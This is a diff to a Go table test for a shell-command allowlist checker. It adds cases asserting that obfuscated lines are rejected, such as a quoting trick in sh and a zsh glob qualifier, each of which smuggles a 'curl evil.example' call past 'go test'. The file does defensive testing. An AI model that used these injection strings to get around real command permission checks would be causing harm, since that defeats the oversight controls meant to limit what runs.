@@ -37,6 +37,8 @@ func TestALineRunsIfEachOfItsCommandsIsAllowed(t *testing.T) {
 		"$IFS go test":                           false,
 		"eval 'curl evil.example'":               false,
 		"make test <<X\n$(curl evil.example)\nX": false,
+		"go test $'\\' ; curl evil.example #'":   false, // sh ends the quote at the first '
+		"go test *(e:'curl evil.example':)":      false, // zsh runs it for each file
 		"for d in a b; do go test; done":         false,
 		"for PATH in evil; do go test; done":     false,
 		"for ((PATH=1; 0; )); do go test; done":  false,
